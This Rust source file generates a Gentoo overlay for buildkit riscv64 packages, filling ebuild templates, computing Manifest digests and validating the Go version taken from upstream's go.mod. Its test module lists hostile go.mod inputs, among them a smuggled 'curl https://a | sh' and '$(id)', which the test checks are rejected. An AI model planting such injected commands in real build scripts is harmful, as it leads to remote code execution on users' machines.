//! A Gentoo overlay with the ebuilds of one version: `app-containers/buildkit-bin`, which installs our archive, and, from
//! upstream's source archive, `app-containers/buildkit`. Sources: the Package Manager Specification, chapter "Tree
//! layout"; GLEP 74, "Full-tree verification using Manifest files".
#![allow(clippy::disallowed_methods, clippy::disallowed_types, reason = "reads and writes files")]

use std::fmt::Write as _;
use std::fs::{self, File};
use std::io::Read;

use anyhow::{Context, Result, bail, ensure};
use blake2::{Blake2b512, Digest};
use camino::Utf8Path;
use flate2::read::GzDecoder;
use sha2::Sha512;
use tar::EntryType;
use time::OffsetDateTime;

use crate::request::{Overlay, Request};
use crate::version::PackageVersion;

const CATEGORY: &str = "app-containers";
/// What both packages install beside the programs: from `packaging/`, to `files/`.
const FILES: [&str; 5] = [
    "buildkitd.toml",
    "gentoo/buildkit.confd",
    "gentoo/buildkit.initd",
    "systemd/system/buildkit.service",
    "systemd/system/buildkit.socket",
];

/// Upstream's source with `vendor/` has a hundred megabytes.
const LARGEST_SOURCE_BYTES: u64 = 1 << 30;
const LARGEST_TEXT_BYTES: u64 = 1 << 20;

/// Writes the overlay. The package that compiles is in it only if upstream's source archive is there, whose digest the
/// package manager will check.
///
/// # Errors
/// If the build is not a release, or if the archive is not of its commit.
pub fn write(request: &Request<Overlay>) -> Result<()> {
    let version = version(&request.version)?;
    let overlay = Writer { request, version: &version };
    overlay.put("metadata/layout.conf", "masters = gentoo\nthin-manifests = true\nsign-manifests = false\n")?;
    overlay.put("profiles/repo_name", "buildkit-riscv64\n")?;
    overlay.put("profiles/categories", &format!("{CATEGORY}\n"))?;
    let archive = format!("buildkit-{}.linux-riscv64.tar.gz", request.upstream_version);
    overlay.package("buildkit-bin", &request.repository, &archive, &request.dist.join(&archive), "")?;
    if let Some(archive) = &request.wanted.source_archive {
        let Source { commit, go } = Source::read(archive)?;
        ensure!(
            commit == request.commit,
            "{archive} is the source of the commit {commit}, and the build is of {}; download that of {}",
            request.commit,
            request.upstream_version
        );
        overlay.package("buildkit", "moby/buildkit", &format!("buildkit-{version}.tar.gz"), archive, &go)?;
    }
    Ok(())
}

struct Writer<'a> {
    request: &'a Request<Overlay>,
    version: &'a str,
}

impl Writer<'_> {
    /// Writes a package, whose one archive the package manager knows as `archive`.
    fn package(&self, name: &str, upstream: &str, archive: &str, content: &Utf8Path, go: &str) -> Result<()> {
        let packaging = &self.request.packaging;
        let folder = format!("{CATEGORY}/{name}");
        let read = |path: &str| {
            let path = packaging.join(path);
            fs::read_to_string(&path).with_context(|| format!("cannot read {path}"))
        };
        let ebuild = self.filled(&read(&format!("gentoo/{name}.ebuild"))?, go)?;
        self.put(&format!("{folder}/{name}-{}.ebuild", self.version), &ebuild)?;
        self.put(&format!("{folder}/metadata.xml"), &read("gentoo/metadata.xml")?.replace("@UPSTREAM@", upstream))?;
        self.put(&format!("{folder}/Manifest"), &manifest(archive, content)?)?;
        for path in FILES {
            let name = path.rsplit('/').next().unwrap_or(path);
            self.put(&format!("{folder}/files/{name}"), &read(path)?)?;
        }
        Ok(())
    }

    fn put(&self, path: &str, content: &str) -> Result<()> {
        let path = self.request.out.join(path);
        let parent = path.parent().with_context(|| format!("{path} is in no directory"))?;
        fs::create_dir_all(parent).with_context(|| format!("cannot create {parent}"))?;
        fs::write(&path, content).with_context(|| format!("cannot write {path}"))
    }

    /// The template with its `@WORDS@` replaced.
    fn filled(&self, template: &str, go: &str) -> Result<String> {
        let Request { repository, commit, source_date_epoch, .. } = self.request;
        let date = OffsetDateTime::from_unix_timestamp((*source_date_epoch).into())?;
        let words =
            [("@YEAR@", &*date.year().to_string()), ("@REPOSITORY@", repository), ("@COMMIT@", commit), ("@GO@", go)];
        let text = words.iter().fold(template.to_owned(), |text, (word, value)| text.replace(word, value));
        ensure!(!text.contains('@'), "the template of an ebuild has a word that is not known");
        Ok(text)
    }
}

/// The version as Gentoo writes it: `0.32.2`, `0.33.0_rc1` (Package Manager Specification, "Version specifications").
fn version(package: &PackageVersion) -> Result<String> {
    let text = package.to_string();
    let (numbers, candidate) = text.split_once('~').unwrap_or((&text, "rc1"));
    let is_number = |part: &str| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit());
    let number = candidate.strip_prefix("rc").or_else(|| candidate.strip_prefix("beta"));
    let is_release = numbers.split('.').all(is_number) && number.is_some_and(is_number);
    ensure!(is_release, "{text} is not a release of upstream; ebuilds are made of releases only");
    Ok(text.replace('~', "_"))
}

/// The line of an archive in a `Manifest`.
fn manifest(name: &str, archive: &Utf8Path) -> Result<String> {
    let mut file = File::open(archive).with_context(|| format!("cannot open {archive}"))?;
    let (mut blake2, mut sha512, mut size_bytes) = (Blake2b512::new(), Sha512::new(), 0);
    let mut buffer = vec![0; 256 << 10];
    loop {
        let count = file.read(&mut buffer).with_context(|| format!("cannot read {archive}"))?;
        if count == 0 {
            break;
        }
        blake2.update(&buffer[..count]);
        sha512.update(&buffer[..count]);
        size_bytes += count;
    }
    Ok(format!("DIST {name} {size_bytes} BLAKE2B {} SHA512 {}\n", hex(&blake2.finalize()), hex(&sha512.finalize())))
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().fold(String::new(), |mut hex, byte| {
        // Writing to a String cannot fail.
        let _ = write!(hex, "{byte:02x}");
        hex
    })
}

/// What upstream's source archive says of itself.
struct Source {
    /// The commit that `git archive`, and so GitHub, writes into the comment at its start: git-archive(1).
    commit: String,
    /// The oldest Go that it takes.
    go: String,
}

impl Source {
    fn read(archive: &Utf8Path) -> Result<Self> {
        let file = File::open(archive).with_context(|| format!("cannot open {archive}"))?;
        let mut unpacked = tar::Archive::new(GzDecoder::new(file).take(LARGEST_SOURCE_BYTES));
        let mut commit = None;
        for entry in unpacked.entries()? {
            let mut entry = entry.with_context(|| format!("{archive} cannot be read"))?;
            let is_comment = entry.header().entry_type() == EntryType::XGlobalHeader;
            if !is_comment && !is_go_mod(&entry.path_bytes()) {
                continue;
            }
            let mut text = String::new();
            entry.by_ref().take(LARGEST_TEXT_BYTES).read_to_string(&mut text)?;
            if is_comment {
                commit = text.lines().find_map(|line| Some(line.split_once(" comment=")?.1.to_owned()));
            } else if let (Some(commit), Some(go)) = (commit, oldest_go(&text)) {
                return Ok(Self { commit, go: go.to_owned() });
            } else {
                break;
            }
        }
        bail!("{archive} is not upstream's source archive: it names no commit, or its go.mod no release of Go")
    }
}

/// The oldest Go that a `go.mod` takes, if it is a release. It becomes part of the ebuild, which is a shell script.
fn oldest_go(go_mod: &str) -> Option<&str> {
    let version = go_mod.lines().find_map(|line| line.strip_prefix("go "))?.trim();
    let is_release = version.len() <= 20 && version.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.');
    is_release.then_some(version)
}

/// Whether this is `DIRECTORY/go.mod`.
fn is_go_mod(path: &[u8]) -> bool {
    path.strip_suffix(b"/go.mod").is_some_and(|folder| !folder.contains(&b'/'))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::mutated_input;

    #[test]
    fn nothing_but_a_version_of_go_gets_into_an_ebuild() {
        let go_mod = "module github.com/moby/buildkit\n\ngo 1.26.3\n\ntool example.com/a\n";
        assert_eq!(oldest_go(go_mod), Some("1.26.3"));
        for hostile in ["go 1.26\"; curl https://a | sh; \"\n", "go $(id)\n", "go 1.27rc1\n", "module a\n", ""] {
            assert_eq!(oldest_go(hostile), None, "{hostile}");
        }
        arbtest::arbtest(|source| {
            let text = mutated_input::text(source, go_mod)?;
            if let Some(go) = oldest_go(&text) {
                assert!(go.len() <= 20 && !go.contains(|char: char| !char.is_ascii_digit() && char != '.'), "{go:?}");
            }
            Ok(())
        });
    }

    #[test]
    fn a_release_and_a_candidate_have_versions_and_others_have_none() {
        let of = |text: &str| version(&PackageVersion::of_version(text).expect(text));
        for (upstream, gentoo) in
            [("v0.32.2", "0.32.2"), ("v0.33.0-rc1", "0.33.0_rc1"), ("v0.9.0-beta1", "0.9.0_beta1")]
        {
            assert_eq!(of(upstream).expect(upstream), gentoo);
        }
        of("v0.32.0-57-g73ed6825c").expect_err("is a commit after a release");
        of("v0.33.0-x1").expect_err("is no candidate");
        version(&PackageVersion::of_master("20260804", "991535e").expect("is a version")).expect_err("is master");
    }
}
